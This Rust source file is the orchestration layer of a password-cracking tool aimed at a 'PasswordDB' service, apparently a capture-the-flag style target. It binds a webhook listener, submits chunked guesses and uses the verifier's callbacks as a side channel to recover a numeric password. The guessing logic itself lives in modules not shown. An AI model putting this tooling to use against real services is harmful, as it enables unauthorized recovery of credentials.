//! High level attack orchestration.
//!
//! Wires the callback listener, the reqwest submitter and the chunk solver
//! together so a caller only provides addresses and tuning parameters.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use thiserror::Error;
use url::Url;

use crate::attack::core::{GuessSubmitter, ReqwestGuessSubmitter, SubmitError};
use crate::attack::solver::{ChunkSolver, SolveOutcome, SolverError};
use crate::config::{ConfigError, ListenerConfig, SolverConfig};
use crate::listener::{ListenerError, WebhookListener};
use crate::modules::events::{EventDispatcher, LoggingHandler, MetricsHandler};
use crate::modules::metrics::MetricsCollector;

/// Result alias used across the orchestration layer.
pub type CrackerResult<T> = Result<T, CrackerError>;

/// High-level error surfaced by the orchestrator.
#[derive(Debug, Error)]
pub enum CrackerError {
    #[error("configuration error: {0}")]
    Config(#[from] ConfigError),
    #[error("url parse error: {0}")]
    Url(#[from] url::ParseError),
    #[error("submitter initialisation failed: {0}")]
    Submitter(#[from] SubmitError),
    #[error("listener error: {0}")]
    Listener(#[from] ListenerError),
    #[error("solver error: {0}")]
    Solver(#[from] SolverError),
    #[error("no webhook target configured")]
    NoWebhookTarget,
}

/// Cracker configuration used by the builder.
#[derive(Debug, Clone)]
pub struct CrackerConfig {
    /// Local address the callback listener binds to.
    pub listen_addr: SocketAddr,
    /// `host:port` targets the verifier is told to call back.
    pub webhook_targets: Vec<String>,
    /// PasswordDB endpoint receiving guesses.
    pub endpoint: Url,
    pub request_timeout: Duration,
    pub solver: SolverConfig,
    pub listener: ListenerConfig,
}

impl Default for CrackerConfig {
    fn default() -> Self {
        Self {
            listen_addr: SocketAddr::from(([0, 0, 0, 0], 50012)),
            webhook_targets: vec!["127.0.0.1:50012".to_string()],
            endpoint: Url::parse("http://127.0.0.1:3000/").expect("valid default endpoint"),
            request_timeout: Duration::from_secs(10),
            solver: SolverConfig::default(),
            listener: ListenerConfig::default(),
        }
    }
}

/// Fluent builder for [`Cracker`].
#[derive(Default)]
pub struct CrackerBuilder {
    config: CrackerConfig,
    submitter: Option<Arc<dyn GuessSubmitter>>,
}

impl CrackerBuilder {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn with_config(mut self, config: CrackerConfig) -> Self {
        self.config = config;
        self
    }

    pub fn with_listen_addr(mut self, addr: SocketAddr) -> Self {
        self.config.listen_addr = addr;
        self
    }

    pub fn with_webhook_targets<I, S>(mut self, targets: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        self.config.webhook_targets = targets.into_iter().map(Into::into).collect();
        self
    }

    pub fn with_endpoint(mut self, endpoint: &str) -> CrackerResult<Self> {
        self.config.endpoint = Url::parse(endpoint)?;
        Ok(self)
    }

    pub fn with_request_timeout(mut self, timeout: Duration) -> Self {
        self.config.request_timeout = timeout;
        self
    }

    pub fn with_solver_config(mut self, solver: SolverConfig) -> Self {
        self.config.solver = solver;
        self
    }

    pub fn with_listener_config(mut self, listener: ListenerConfig) -> Self {
        self.config.listener = listener;
        self
    }

    /// Use a custom submitter instead of posting to the endpoint.
    pub fn with_submitter(mut self, submitter: Arc<dyn GuessSubmitter>) -> Self {
        self.submitter = Some(submitter);
        self
    }

    pub fn build(self) -> CrackerResult<Cracker> {
        self.config.solver.validate()?;
        if self.config.webhook_targets.is_empty() {
            return Err(CrackerError::NoWebhookTarget);
        }

        let submitter = match self.submitter {
            Some(submitter) => submitter,
            None => Arc::new(ReqwestGuessSubmitter::new(
                self.config.endpoint.clone(),
                self.config.request_timeout,
            )?),
        };

        Ok(Cracker {
            config: self.config,
            submitter,
            metrics: MetricsCollector::new(),
        })
    }
}

/// One password-recovery run against a PasswordDB instance.
pub struct Cracker {
    config: CrackerConfig,
    submitter: Arc<dyn GuessSubmitter>,
    metrics: MetricsCollector,
}

impl Cracker {
    pub fn new() -> CrackerResult<Self> {
        CrackerBuilder::new().build()
    }

    pub fn builder() -> CrackerBuilder {
        CrackerBuilder::new()
    }

    pub fn config(&self) -> &CrackerConfig {
        &self.config
    }

    pub fn metrics(&self) -> &MetricsCollector {
        &self.metrics
    }

    /// Bind the callback listener, run the solver to completion and stop the
    /// listener again.
    pub async fn run(&self) -> CrackerResult<SolveOutcome> {
        let listener =
            WebhookListener::bind(self.config.listen_addr, self.config.listener.clone()).await?;
        let (mut events, handle) = listener.spawn();

        let mut dispatcher = EventDispatcher::new();
        dispatcher.register_handler(Arc::new(LoggingHandler));
        dispatcher.register_handler(Arc::new(MetricsHandler::new(self.metrics.clone())));

        let mut solver = ChunkSolver::new(
            self.config.solver.clone(),
            Arc::clone(&self.submitter),
            self.config.webhook_targets.clone(),
        )?
        .with_dispatcher(dispatcher);

        log::info!(
            "cracking {} digits in {} chunks via {} (callbacks to {})",
            self.config.solver.password_length,
            self.config.solver.chunks,
            self.config.endpoint,
            self.config.webhook_targets.join(", ")
        );

        let outcome = solver.run(&mut events).await;
        handle.shutdown();
        Ok(outcome?)
    }
}
